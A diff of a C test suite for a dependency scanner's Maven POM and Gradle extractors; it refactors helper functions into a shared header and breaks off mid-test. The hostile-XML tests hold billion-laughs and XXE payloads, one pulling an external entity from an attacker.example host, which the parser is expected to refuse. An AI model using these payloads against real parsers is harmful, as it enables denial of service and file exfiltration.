@@ -3,21 +3,10 @@
  * properties and dependencyManagement, gradle.lockfile,
  * gradle/verification-metadata.xml, and hostile XML.
  */
-#include <fcntl.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <time.h>
-#include <unistd.h>
-#include "helpers.h"
-#include "sca/extractors.h"
+#include "sca_expect.h"
 #include "sca/xmlread.h"
 #include "scan/buf.h"
 #include "scan/common.h"
-
-#define FIXTURES RAMPART_SOURCE_DIR "/tests/sca/"
-/* Hostile inputs must fail long before this; generous for sanitizer builds. */
-#define FAST_SECONDS 2.0
 
 enum {
 	D = SCAN_DEP_DIRECT,
@@ -27,157 +16,6 @@ enum {
 	UNP = SCAN_DEP_UNPINNED,
 };
 
-typedef struct {
-	const char *name;
-	const char *version;    /* NULL: none */
-	unsigned flags;
-	unsigned line;
-	const char *deps;       /* "name@version ..." sorted, NULL: none */
-} want;
-
-static double now_s(void)
-{
-	struct timespec ts;
-
-	clock_gettime(CLOCK_MONOTONIC, &ts);
-	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
-}
-
-static int cmp_str(const void *a, const void *b)
-{
-	return strcmp(*(char *const *)a, *(char *const *)b);
-}
-
-/* The deps of c as sorted "name@version" words; "" when none. */
-static char *deps_of(const scan_sca_inventory *inv, const scan_component *c)
-{
-	scan_buf b = SCAN_BUF_INIT;
-	char **words = calloc(c->ndeps + 1, sizeof(*words));
-
-	assert_non_null(words);
-	for (size_t i = 0; i < c->ndeps; i++) {
-		const scan_component *t = &inv->items[c->deps[i]];
-		scan_buf w = SCAN_BUF_INIT;
-		scan_buf_printf(&w, "%s@%s", t->name, t->version ? t->version : "-");
-		words[i] = scan_buf_detach(&w);
-	}
-	qsort(words, c->ndeps, sizeof(*words), cmp_str);
-	for (size_t i = 0; i < c->ndeps; i++) {
-		scan_buf_printf(&b, "%s%s", i ? " " : "", words[i]);
-		free(words[i]);
-	}
-	free(words);
-	return b.size ? scan_buf_detach(&b) : calloc(1, 1);
-}
-
-static void check(const scan_sca_inventory *inv, const want *w, size_t n)
-{
-	for (size_t i = 0; i < inv->count && i < n; i++) {
-		const scan_component *c = &inv->items[i];
-		char *deps = deps_of(inv, c);
-		bool ok = !strcmp(c->name, w[i].name) && c->ecosystem == inv->items[0].ecosystem &&
-		          (c->version && w[i].version ? !strcmp(c->version, w[i].version) : c->version == w[i].version) &&
-		          c->flags == w[i].flags && c->line == w[i].line &&
-		          !strcmp(deps, w[i].deps ? w[i].deps : "");
-		if (!ok)
-			fail_msg("component %zu: got %s@%s flags %#x line %u deps [%s]; want %s@%s flags %#x line %u deps [%s]",
-			         i, c->name, c->version ? c->version : "(null)", c->flags, c->line, deps, w[i].name,
-			         w[i].version ? w[i].version : "(null)", w[i].flags, w[i].line, w[i].deps ? w[i].deps : "");
-		assert_non_null(c->purl);
-		free(deps);
-	}
-	if (inv->count != n) {
-		for (size_t i = 0; i < inv->count; i++)
-			print_message("  %s@%s %#x %u\n", inv->items[i].name,
-			              inv->items[i].version ? inv->items[i].version : "(null)", inv->items[i].flags,
-			              inv->items[i].line);
-		fail_msg("got %zu components, want %zu", inv->count, n);
-	}
-}
-
-/* Run fn over text as document label, with the file system at root (NULL: none). */
-static int run(scan_sca_inventory *inv, scan_sca_extract_fn fn, const char *root, const char *label,
-               const char *text, size_t len)
-{
-	scan_sca_doc d;
-	int fd = -1, rc;
-
-	if (root) {
-		fd = open(root, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
-		assert_true(fd >= 0);
-	}
-	assert_int_equal(scan_sca__doc_begin(&d, inv, label, fd), 0);
-	rc = fn(&d, text, len);
-	if (rc == 0)
-		rc = scan_sca__doc_end(&d);
-	else
-		scan_sca__doc_abort(&d);
-	if (fd >= 0)
-		close(fd);
-	return rc;
-}
-
-static void run_fixture(scan_sca_inventory *inv, scan_sca_extract_fn fn, const char *dir, const char *rel)
-{
-	char path[1024];
-	size_t len;
-	char *text;
-	int rc;
-
-	snprintf(path, sizeof(path), FIXTURES "%s/%s", dir, rel);
-	if (!(text = th_read(path, &len)))
-		fail_msg("cannot read %s", path);
-	snprintf(path, sizeof(path), FIXTURES "%s", dir);
-	rc = run(inv, fn, path, rel, text, len);
-	free(text);
-	if (rc)
-		fail_msg("%s: failed (%d): %s", rel, rc, scan_error_last()->message);
-}
-
-static void expect_fixture(scan_sca_extract_fn fn, const char *dir, const char *rel, const want *w, size_t n)
-{
-	scan_sca_inventory inv;
-
-	scan_sca__inventory_init(&inv);
-	run_fixture(&inv, fn, dir, rel);
-	check(&inv, w, n);
-	scan_sca__inventory_dispose(&inv);
-}
-
-static void expect_text(scan_sca_extract_fn fn, const char *label, const char *text, const want *w, size_t n)
-{
-	scan_sca_inventory inv;
-	int rc;
-
-	scan_sca__inventory_init(&inv);
-	rc = run(&inv, fn, NULL, label, text, strlen(text));
-	if (rc)
-		fail_msg("%s: failed (%d): %s", label, rc, scan_error_last()->message);
-	check(&inv, w, n);
-	scan_sca__inventory_dispose(&inv);
-}
-
-/* fn must refuse text with code, quickly, with a one-line message containing want_msg. */
-static void expect_error(scan_sca_extract_fn fn, const char *label, const char *text, size_t len, int code,
-                         const char *want_msg)
-{
-	scan_sca_inventory inv;
-	double t0 = now_s();
-	int rc;
-
-	scan_sca__inventory_init(&inv);
-	rc = run(&inv, fn, NULL, label, text, len);
-	if (rc != code)
-		fail_msg("expected %d, got %d: %s", code, rc, scan_error_last()->message);
-	if (want_msg && !strstr(scan_error_last()->message, want_msg))
-		fail_msg("message '%s' lacks '%s'", scan_error_last()->message, want_msg);
-	assert_null(strchr(scan_error_last()->message, '\n'));
-	assert_int_equal(inv.count, 0);
-	if (now_s() - t0 > FAST_SECONDS)
-		fail_msg("took %.2f s", now_s() - t0);
-	scan_sca__inventory_dispose(&inv);
-}
-
 #define N(a) (sizeof(a) / sizeof((a)[0]))
 #define S(lit) lit, strlen(lit)
 
@@ -185,61 +23,61 @@ static void expect_error(scan_sca_extract_fn fn, const char *label, const char *
 
 static void test_pom_single(void **state)
 {
-	static const want w[] = {
-		{ "com.fasterxml.jackson.core:jackson-databind", "2.15.3", D, 52, NULL },
-		{ "org.apache.logging.log4j:log4j-core", "2.20.0", D, 57, NULL },
-		{ "org.apache.commons:commons-lang3", "3.14.0", D, 68, NULL },
-		{ "org.junit.jupiter:junit-jupiter", NULL, D | DEV | UNP, 72, NULL },  /* from the BOM */
-		{ "org.mockito:mockito-core", "5.7.0", D | DEV, 77, NULL },            /* managed scope */
-		{ "jakarta.servlet:jakarta.servlet-api", "6.0.0", D, 81, NULL },       /* provided */
-		{ "com.oracle.database.jdbc:ojdbc11", "23.3.0.23.09", D | LOC, 87, NULL },
-		{ "org.xerial.snappy:snappy-java", "1.1.10.5", D | OPT, 94, NULL },
-		{ "com.google.guava:guava", NULL, D | UNP, 100, NULL },                /* a range */
-		{ "io.netty:netty-handler", NULL, D | UNP, 105, NULL },                /* undefined property */
-		{ "org.example:inventory-model", "3.2.1", D | DEV, 110, NULL },
-		{ "org.yaml:snakeyaml", "2.2", D, 118, NULL },
+	static const sca_want w[] = {
+		{ "com.fasterxml.jackson.core:jackson-databind", "2.15.3", D, 52, NULL, NULL },
+		{ "org.apache.logging.log4j:log4j-core", "2.20.0", D, 57, NULL, NULL },
+		{ "org.apache.commons:commons-lang3", "3.14.0", D, 68, NULL, NULL },
+		{ "org.junit.jupiter:junit-jupiter", NULL, D | DEV | UNP, 72, NULL, NULL },  /* from the BOM */
+		{ "org.mockito:mockito-core", "5.7.0", D | DEV, 77, NULL, NULL },            /* managed scope */
+		{ "jakarta.servlet:jakarta.servlet-api", "6.0.0", D, 81, NULL, NULL },       /* provided */
+		{ "com.oracle.database.jdbc:ojdbc11", "23.3.0.23.09", D | LOC, 87, NULL, NULL },
+		{ "org.xerial.snappy:snappy-java", "1.1.10.5", D | OPT, 94, NULL, NULL },
+		{ "com.google.guava:guava", NULL, D | UNP, 100, NULL, NULL },                /* a range */
+		{ "io.netty:netty-handler", NULL, D | UNP, 105, NULL, NULL },                /* undefined property */
+		{ "org.example:inventory-model", "3.2.1", D | DEV, 110, NULL, NULL },
+		{ "org.yaml:snakeyaml", "2.2", D, 118, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_pom, "maven", "simple/pom.xml", w, N(w));
+	sca_expect_fixture(scan_sca__extract_pom, "maven", "simple/pom.xml", w, N(w));
 }
 
 static void test_pom_parent_itself(void **state)
 {
-	static const want w[] = {
-		{ "org.slf4j:slf4j-api", "2.0.9", D, 67, NULL },
+	static const sca_want w[] = {
+		{ "org.slf4j:slf4j-api", "2.0.9", D, 67, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_pom, "maven", "multi/pom.xml", w, N(w));
+	sca_expect_fixture(scan_sca__extract_pom, "maven", "multi/pom.xml", w, N(w));
 }
 
 static void test_pom_child_overrides_property(void **state)
 {
 	/* The parent manages jackson at ${jackson.version}; the child's value wins, as in Maven. */
-	static const want w[] = {
-		{ "com.fasterxml.jackson.core:jackson-databind", "2.16.0", D, 21, NULL },
-		{ "com.google.guava:guava", "32.1.2-jre", D, 25, NULL },
-		{ "org.junit.jupiter:junit-jupiter", "5.10.0", D | DEV, 29, NULL },
+	static const sca_want w[] = {
+		{ "com.fasterxml.jackson.core:jackson-databind", "2.16.0", D, 21, NULL, NULL },
+		{ "com.google.guava:guava", "32.1.2-jre", D, 25, NULL, NULL },
+		{ "org.junit.jupiter:junit-jupiter", "5.10.0", D | DEV, 29, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_pom, "maven", "multi/core/pom.xml", w, N(w));
+	sca_expect_fixture(scan_sca__extract_pom, "maven", "multi/core/pom.xml", w, N(w));
 }
 
 static void test_pom_child_with_relative_path(void **state)
 {
-	static const want w[] = {
-		{ "com.acme.shop:shop-core", "1.4.0-SNAPSHOT", D, 18, NULL },
-		{ "org.springframework.boot:spring-boot-starter-web", NULL, D | UNP, 22, NULL },
-		{ "com.acme.shop:shop-testkit", "1.4.0-SNAPSHOT", D | DEV, 26, NULL },
-		{ "jakarta.servlet:jakarta.servlet-api", "6.0.0", D, 32, NULL },
-		{ "org.projectlombok:lombok", "1.18.30", D | OPT, 38, NULL },
-		{ "org.mockito:mockito-junit-jupiter", NULL, D | DEV | UNP, 45, NULL },
+	static const sca_want w[] = {
+		{ "com.acme.shop:shop-core", "1.4.0-SNAPSHOT", D, 18, NULL, NULL },
+		{ "org.springframework.boot:spring-boot-starter-web", NULL, D | UNP, 22, NULL, NULL },
+		{ "com.acme.shop:shop-testkit", "1.4.0-SNAPSHOT", D | DEV, 26, NULL, NULL },
+		{ "jakarta.servlet:jakarta.servlet-api", "6.0.0", D, 32, NULL, NULL },
+		{ "org.projectlombok:lombok", "1.18.30", D | OPT, 38, NULL, NULL },
+		{ "org.mockito:mockito-junit-jupiter", NULL, D | DEV | UNP, 45, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_pom, "maven", "multi/web/pom.xml", w, N(w));
+	sca_expect_fixture(scan_sca__extract_pom, "maven", "multi/web/pom.xml", w, N(w));
 }
 
 static void test_pom_grandchild(void **state)
@@ -249,86 +87,86 @@ static void test_pom_grandchild(void **state)
 	 * (guava), and ${project.version} in the root's management is api's own
 	 * version.
 	 */
-	static const want w[] = {
-		{ "io.grpc:grpc-netty-shaded", "1.59.0", D, 17, NULL },
-		{ "io.grpc:grpc-protobuf", "1.59.0", D, 21, NULL },
-		{ "com.google.protobuf:protobuf-java", "3.25.1", D, 26, NULL },
-		{ "com.acme.shop:shop-core", "2.0.0", D, 31, NULL },
-		{ "com.google.guava:guava", "33.0.0-jre", D, 35, NULL },
-		{ "com.fasterxml.jackson.core:jackson-databind", "2.15.2", D, 39, NULL },
+	static const sca_want w[] = {
+		{ "io.grpc:grpc-netty-shaded", "1.59.0", D, 17, NULL, NULL },
+		{ "io.grpc:grpc-protobuf", "1.59.0", D, 21, NULL, NULL },
+		{ "com.google.protobuf:protobuf-java", "3.25.1", D, 26, NULL, NULL },
+		{ "com.acme.shop:shop-core", "2.0.0", D, 31, NULL, NULL },
+		{ "com.google.guava:guava", "33.0.0-jre", D, 35, NULL, NULL },
+		{ "com.fasterxml.jackson.core:jackson-databind", "2.15.2", D, 39, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_pom, "maven", "multi/services/api/pom.xml", w, N(w));
+	sca_expect_fixture(scan_sca__extract_pom, "maven", "multi/services/api/pom.xml", w, N(w));
 }
 
 static void test_pom_relative_path_directory(void **state)
 {
 	/* cli -> ../../build/tools-parent (a directory) -> ../.. (the root pom). */
-	static const want w[] = {
-		{ "info.picocli:picocli", "4.7.5", D, 17, NULL },
-		{ "org.slf4j:slf4j-simple", "2.0.9", D, 22, NULL },
-		{ "com.google.guava:guava", "32.1.2-jre", D, 28, NULL },
+	static const sca_want w[] = {
+		{ "info.picocli:picocli", "4.7.5", D, 17, NULL, NULL },
+		{ "org.slf4j:slf4j-simple", "2.0.9", D, 22, NULL, NULL },
+		{ "com.google.guava:guava", "32.1.2-jre", D, 28, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_pom, "maven", "multi/tools/cli/pom.xml", w, N(w));
+	sca_expect_fixture(scan_sca__extract_pom, "maven", "multi/tools/cli/pom.xml", w, N(w));
 }
 
 static void test_pom_parent_from_repository(void **state)
 {
-	static const want w[] = {
-		{ "org.springframework.boot:spring-boot-starter-web", NULL, D | UNP, 20, NULL },
-		{ "org.springframework.boot:spring-boot-starter-test", NULL, D | DEV | UNP, 24, NULL },
-		{ "org.springframework.boot:spring-boot-devtools", "3.2.0", D | OPT, 29, NULL },
-		{ "org.postgresql:postgresql", NULL, D | UNP, 36, NULL },
+	static const sca_want w[] = {
+		{ "org.springframework.boot:spring-boot-starter-web", NULL, D | UNP, 20, NULL, NULL },
+		{ "org.springframework.boot:spring-boot-starter-test", NULL, D | DEV | UNP, 24, NULL, NULL },
+		{ "org.springframework.boot:spring-boot-devtools", "3.2.0", D | OPT, 29, NULL, NULL },
+		{ "org.postgresql:postgresql", NULL, D | UNP, 36, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_pom, "maven", "orphan/pom.xml", w, N(w));
+	sca_expect_fixture(scan_sca__extract_pom, "maven", "orphan/pom.xml", w, N(w));
 }
 
 static void test_pom_parent_mismatch(void **state)
 {
 	/* ../multi/pom.xml is shop-parent, not other-parent: not used. */
-	static const want w[] = {
-		{ "com.fasterxml.jackson.core:jackson-databind", NULL, D | UNP, 16, NULL },
-		{ "com.acme.shop:stray-model", "1.0.0", D, 21, NULL },
+	static const sca_want w[] = {
+		{ "com.fasterxml.jackson.core:jackson-databind", NULL, D | UNP, 16, NULL, NULL },
+		{ "com.acme.shop:stray-model", "1.0.0", D, 21, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_pom, "maven", "mismatch/pom.xml", w, N(w));
+	sca_expect_fixture(scan_sca__extract_pom, "maven", "mismatch/pom.xml", w, N(w));
 }
 
 static void test_pom_without_file_system(void **state)
 {
 	/* The parent cannot be read: what it would have supplied stays unknown. */
-	static const want w[] = {
-		{ "com.fasterxml.jackson.core:jackson-databind", NULL, D | UNP, 21, NULL },
-		{ "com.google.guava:guava", NULL, D | UNP, 25, NULL },
-		{ "org.junit.jupiter:junit-jupiter", NULL, D | UNP, 29, NULL },
+	static const sca_want w[] = {
+		{ "com.fasterxml.jackson.core:jackson-databind", NULL, D | UNP, 21, NULL, NULL },
+		{ "com.google.guava:guava", NULL, D | UNP, 25, NULL, NULL },
+		{ "org.junit.jupiter:junit-jupiter", NULL, D | UNP, 29, NULL, NULL },
 	};
-	char *text = th_read(FIXTURES "maven/multi/core/pom.xml", NULL);
+	char *text = th_read(SCA_FIXTURES "maven/multi/core/pom.xml", NULL);
 
 	(void)state;
 	assert_non_null(text);
-	expect_text(scan_sca__extract_pom, "core/pom.xml", text, w, N(w));
+	sca_expect_text(scan_sca__extract_pom, "core/pom.xml", text, w, N(w));
 	free(text);
 }
 
 static void test_pom_property_cycles(void **state)
 {
-	static const want w[] = {
-		{ "a:cycle", NULL, D | UNP, 10, NULL },
-		{ "a:self", NULL, D | UNP, 11, NULL },
-		{ "a:laughs", NULL, D | UNP, 12, NULL },
-		{ "a:nested", "1.2.3", D, 13, NULL },
-		{ "a:unclosed", NULL, D | UNP, 14, NULL },
-		{ "a:latest", NULL, D | UNP, 15, NULL },
-		{ "a:range", NULL, D | UNP, 16, NULL },
+	static const sca_want w[] = {
+		{ "a:cycle", NULL, D | UNP, 10, NULL, NULL },
+		{ "a:self", NULL, D | UNP, 11, NULL, NULL },
+		{ "a:laughs", NULL, D | UNP, 12, NULL, NULL },
+		{ "a:nested", "1.2.3", D, 13, NULL, NULL },
+		{ "a:unclosed", NULL, D | UNP, 14, NULL, NULL },
+		{ "a:latest", NULL, D | UNP, 15, NULL, NULL },
+		{ "a:range", NULL, D | UNP, 16, NULL, NULL },
 	};
 	scan_buf b = SCAN_BUF_INIT;
-	double t0 = now_s();
+	double t0 = sca_now();
 
 	(void)state;
 	scan_buf_puts(&b, "<project>\n<groupId>g</groupId><artifactId>x</artifactId>\n"
@@ -351,9 +189,9 @@ static void test_pom_property_cycles(void **state)
 	                  "<dependency><artifactId>no-group</artifactId><version>1</version></dependency>\n"
 	                  "</dependencies>\n</project>\n");
 	assert_int_equal(scan_buf_failed(&b), 0);
-	expect_text(scan_sca__extract_pom, "pom.xml", b.ptr, w, N(w));
-	if (now_s() - t0 > FAST_SECONDS)
-		fail_msg("took %.2f s", now_s() - t0);
+	sca_expect_text(scan_sca__extract_pom, "pom.xml", b.ptr, w, N(w));
+	if (sca_now() - t0 > SCA_REFUSE_SECONDS)
+		fail_msg("took %.2f s", sca_now() - t0);
 	scan_buf_dispose(&b);
 }
 
@@ -372,7 +210,7 @@ static void test_pom_expansion_budget(void **state)
 		scan_buf_printf(&b, "<dependency><groupId>g</groupId><artifactId>a%d</artifactId>"
 		                    "<version>${p40}</version></dependency>\n", i);
 	scan_buf_puts(&b, "</dependencies></project>\n");
-	expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT,
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT,
 	             "pom.xml: more than 1000000 property substitutions");
 	scan_buf_dispose(&b);
 }
@@ -380,11 +218,11 @@ static void test_pom_expansion_budget(void **state)
 static void test_pom_parent_cycle_and_escape(void **state)
 {
 	/* a's parent is b, b's parent is a: bounded; c's parent is outside the root: ignored. */
-	static const want wa[] = {
-		{ "x:y", "7", D, 3, NULL },
+	static const sca_want wa[] = {
+		{ "x:y", "7", D, 3, NULL, NULL },
 	};
-	static const want wc[] = {
-		{ "x:z", NULL, D | UNP, 3, NULL },
+	static const sca_want wc[] = {
+		{ "x:z", NULL, D | UNP, 3, NULL, NULL },
 	};
 	char *dir = th_tmpdir();
 	scan_sca_inventory inv;
@@ -405,19 +243,17 @@ static void test_pom_parent_cycle_and_escape(void **state)
 	         "<artifactId>c</artifactId><dependencies>\n"
 	         "<dependency><groupId>x</groupId><artifactId>z</artifactId><version>${v}</version></dependency>\n"
 	         "</dependencies></project>\n");
-	scan_sca__inventory_init(&inv);
 	path = th_join(dir, "a/pom.xml");
 	text = th_read(path, &len);
-	assert_int_equal(run(&inv, scan_sca__extract_pom, dir, "a/pom.xml", text, len), 0);
-	check(&inv, wa, N(wa));
+	assert_int_equal(sca_run_path(&inv, scan_sca__extract_pom, dir, "a/pom.xml", text, len), 0);
+	sca_expect(&inv, wa, N(wa));
 	scan_sca__inventory_dispose(&inv);
 	free(text);
 	free(path);
-	scan_sca__inventory_init(&inv);
 	path = th_join(dir, "c/pom.xml");
 	text = th_read(path, &len);
-	assert_int_equal(run(&inv, scan_sca__extract_pom, dir, "c/pom.xml", text, len), 0);
-	check(&inv, wc, N(wc));
+	assert_int_equal(sca_run_path(&inv, scan_sca__extract_pom, dir, "c/pom.xml", text, len), 0);
+	sca_expect(&inv, wc, N(wc));
 	scan_sca__inventory_dispose(&inv);
 	free(text);
 	free(path);
@@ -428,12 +264,12 @@ static void test_pom_parent_cycle_and_escape(void **state)
 static void test_pom_refused(void **state)
 {
 	(void)state;
-	expect_error(scan_sca__extract_pom, "pom.xml", S("<?xml version=\"1.0\"?><settings/>"), SCAN_EPARSE,
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", S("<?xml version=\"1.0\"?><settings/>"), SCAN_EPARSE,
 	             "pom.xml:1: root element is <settings>, not <project>");
-	expect_error(scan_sca__extract_pom, "pom.xml", S("<project>\n<dependencies>\n</project>"), SCAN_EPARSE,
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", S("<project>\n<dependencies>\n</project>"), SCAN_EPARSE,
 	             "pom.xml:3: not well-formed XML");
-	expect_error(scan_sca__extract_pom, "pom.xml", S(""), SCAN_EPARSE, "not well-formed");
-	expect_error(scan_sca__extract_pom, "pom.xml", S("<project>&undefined;</project>"), SCAN_EPARSE,
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", S(""), SCAN_EPARSE, "not well-formed");
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", S("<project>&undefined;</project>"), SCAN_EPARSE,
 	             "undefined entity");
 }
 
@@ -458,9 +294,9 @@ static void test_xml_billion_laughs(void **state)
 		"<project><version>&lol9;</version></project>\n";
 
 	(void)state;
-	expect_error(scan_sca__extract_pom, "pom.xml", laughs, strlen(laughs), SCAN_EPARSE,
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", laughs, strlen(laughs), SCAN_EPARSE,
 	             "pom.xml:2: DOCTYPE declarations are not allowed");
-	expect_error(scan_sca__extract_gradle_verification, "gradle/verification-metadata.xml", laughs,
+	sca_expect_error(scan_sca__extract_gradle_verification, "gradle/verification-metadata.xml", laughs,
 	             strlen(laughs), SCAN_EPARSE, "DOCTYPE");
 }
 
@@ -478,9 +314,9 @@ static void test_xml_external_entities(void **state)
 		"<!DOCTYPE p [<!ENTITY % remote SYSTEM \"http://attacker.example/x\"> %remote;]><project/>";
 
 	(void)state;
-	expect_error(scan_sca__extract_pom, "pom.xml", xxe, strlen(xxe), SCAN_EPARSE, "DOCTYPE");
-	expect_error(scan_sca__extract_pom, "pom.xml", external_dtd, strlen(external_dtd), SCAN_EPARSE, "DOCTYPE");
-	expect_error(scan_sca__extract_pom, "pom.xml", param, strlen(param), SCAN_EPARSE, "DOCTYPE");
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", xxe, strlen(xxe), SCAN_EPARSE, "DOCTYPE");
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", external_dtd, strlen(external_dtd), SCAN_EPARSE, "DOCTYPE");
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", param, strlen(param), SCAN_EPARSE, "DOCTYPE");
 }
 
 static void test_xml_limits(void **state)
@@ -492,7 +328,7 @@ static void test_xml_limits(void **state)
 	scan_buf_puts(&b, "<project>");
 	for (int i = 0; i < 100000; i++)
 		scan_buf_puts(&b, "<a>");
-	expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT,
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT,
 	             "elements nested deeper than 128 levels");
 	/* a huge attribute */
 	scan_buf_clear(&b);
@@ -500,23 +336,23 @@ static void test_xml_limits(void **state)
 	for (int i = 0; i < 200000; i++)
 		scan_buf_putc(&b, 'A');
 	scan_buf_puts(&b, "\"/>");
-	expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "attribute 'x' longer than");
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "attribute 'x' longer than");
 	/* huge text */
 	scan_buf_clear(&b);
 	scan_buf_puts(&b, "<project><description>");
 	for (int i = 0; i < (3 << 20); i++)
 		scan_buf_putc(&b, 'x');
 	scan_buf_puts(&b, "</description></project>");
-	expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "text longer than");
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "text longer than");
 	/* a huge element name */
 	scan_buf_clear(&b);
 	scan_buf_puts(&b, "<project><");
 	for (int i = 0; i < 5000; i++)
 		scan_buf_putc(&b, 'n');
 	scan_buf_puts(&b, "/></project>");
-	expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "element name longer");
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "element name longer");
 	/* an encoding expat does not know */
-	expect_error(scan_sca__extract_pom, "pom.xml", S("<?xml version=\"1.0\" encoding=\"EBCDIC-XX\"?><project/>"),
+	sca_expect_error(scan_sca__extract_pom, "pom.xml", S("<?xml version=\"1.0\" encoding=\"EBCDIC-XX\"?><project/>"),
 	             SCAN_EPARSE, "encoding");
 	assert_int_equal(scan_buf_failed(&b), 0);
 	scan_buf_dispose(&b);
@@ -528,7 +364,7 @@ static void test_xml_utf16_and_namespaces(void **state)
 	static const char src[] = "<p:project xmlns:p=\"http://maven.apache.org/POM/4.0.0\"><p:dependencies>"
 	                          "<p:dependency><p:groupId>g</p:groupId><p:artifactId>a</p:artifactId>"
 	                          "<p:version>1</p:version></p:dependency></p:dependencies></p:project>";
-	static const want w[] = { { "g:a", "1", D, 1, NULL } };
+	static const sca_want w[] = { { "g:a", "1", D, 1, NULL, NULL } };
 	size_t n = strlen(src);
 	char *utf16 = malloc(2 * n + 3);
 	scan_sca_inventory inv;
@@ -541,9 +377,8 @@ static void test_xml_utf16_and_namespaces(void **state)
 		utf16[3 + 2 * i] = 0;
 	}
 	utf16[2 * n + 2] = 0;
-	scan_sca__inventory_init(&inv);
-	assert_int_equal(run(&inv, scan_sca__extract_pom, NULL, "pom.xml", utf16, 2 * n + 2), 0);
-	check(&inv, w, N(w));
+	assert_int_equal(sca_run_path(&inv, scan_sca__extract_pom, NULL, "pom.xml", utf16, 2 * n + 2), 0);
+	sca_expect(&inv, w, N(w));
 	scan_sca__inventory_dispose(&inv);
 	free(utf16);
 }
@@ -552,85 +387,85 @@ static void test_xml_utf16_and_namespaces(void **state)
 
 static void test_gradle_lockfile(void **state)
 {
-	static const want w[] = {
-		{ "com.fasterxml.jackson.core:jackson-annotations", "2.15.3", 0, 4, NULL },
-		{ "com.fasterxml.jackson.core:jackson-core", "2.15.3", 0, 5, NULL },
-		{ "com.fasterxml.jackson.core:jackson-databind", "2.15.3", 0, 6, NULL },
-		{ "com.fasterxml.jackson:jackson-bom", "2.15.3", 0, 7, NULL },
-		{ "com.google.code.findbugs:jsr305", "3.0.2", 0, 8, NULL },
-		{ "com.google.guava:failureaccess", "1.0.1", 0, 9, NULL },
-		{ "com.google.guava:guava", "32.1.3-jre", 0, 10, NULL },
-		{ "net.bytebuddy:byte-buddy", "1.14.9", DEV, 11, NULL },
-		{ "org.apiguardian:apiguardian-api", "1.1.2", DEV, 12, NULL },
-		{ "org.junit.jupiter:junit-jupiter-api", "5.10.1", DEV, 13, NULL },
-		{ "org.junit.jupiter:junit-jupiter-engine", "5.10.1", DEV, 14, NULL },
-		{ "org.junit:junit-bom", "5.10.1", DEV, 15, NULL },
-		{ "org.mockito:mockito-core", "5.7.0", DEV, 16, NULL },
-		{ "org.projectlombok:lombok", "1.18.30", 0, 17, NULL },
-		{ "org.slf4j:slf4j-api", "2.0.9", 0, 18, NULL },
+	static const sca_want w[] = {
+		{ "com.fasterxml.jackson.core:jackson-annotations", "2.15.3", 0, 4, NULL, NULL },
+		{ "com.fasterxml.jackson.core:jackson-core", "2.15.3", 0, 5, NULL, NULL },
+		{ "com.fasterxml.jackson.core:jackson-databind", "2.15.3", 0, 6, NULL, NULL },
+		{ "com.fasterxml.jackson:jackson-bom", "2.15.3", 0, 7, NULL, NULL },
+		{ "com.google.code.findbugs:jsr305", "3.0.2", 0, 8, NULL, NULL },
+		{ "com.google.guava:failureaccess", "1.0.1", 0, 9, NULL, NULL },
+		{ "com.google.guava:guava", "32.1.3-jre", 0, 10, NULL, NULL },
+		{ "net.bytebuddy:byte-buddy", "1.14.9", DEV, 11, NULL, NULL },
+		{ "org.apiguardian:apiguardian-api", "1.1.2", DEV, 12, NULL, NULL },
+		{ "org.junit.jupiter:junit-jupiter-api", "5.10.1", DEV, 13, NULL, NULL },
+		{ "org.junit.jupiter:junit-jupiter-engine", "5.10.1", DEV, 14, NULL, NULL },
+		{ "org.junit:junit-bom", "5.10.1", DEV, 15, NULL, NULL },
+		{ "org.mockito:mockito-core", "5.7.0", DEV, 16, NULL, NULL },
+		{ "org.projectlombok:lombok", "1.18.30", 0, 17, NULL, NULL },
+		{ "org.slf4j:slf4j-api", "2.0.9", 0, 18, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_gradle_lock, "gradle", "app/gradle.lockfile", w, N(w));
+	sca_expect_fixture(scan_sca__extract_gradle_lock, "gradle", "app/gradle.lockfile", w, N(w));
 }
 
 static void test_gradle_buildscript_lockfile(void **state)
 {
-	static const want w[] = {
-		{ "com.diffplug.spotless:spotless-plugin-gradle", "6.22.0", DEV, 4, NULL },
-		{ "com.google.protobuf:protobuf-gradle-plugin", "0.9.4", DEV, 5, NULL },
+	static const sca_want w[] = {
+		{ "com.diffplug.spotless:spotless-plugin-gradle", "6.22.0", DEV, 4, NULL, NULL },
+		{ "com.google.protobuf:protobuf-gradle-plugin", "0.9.4", DEV, 5, NULL, NULL },
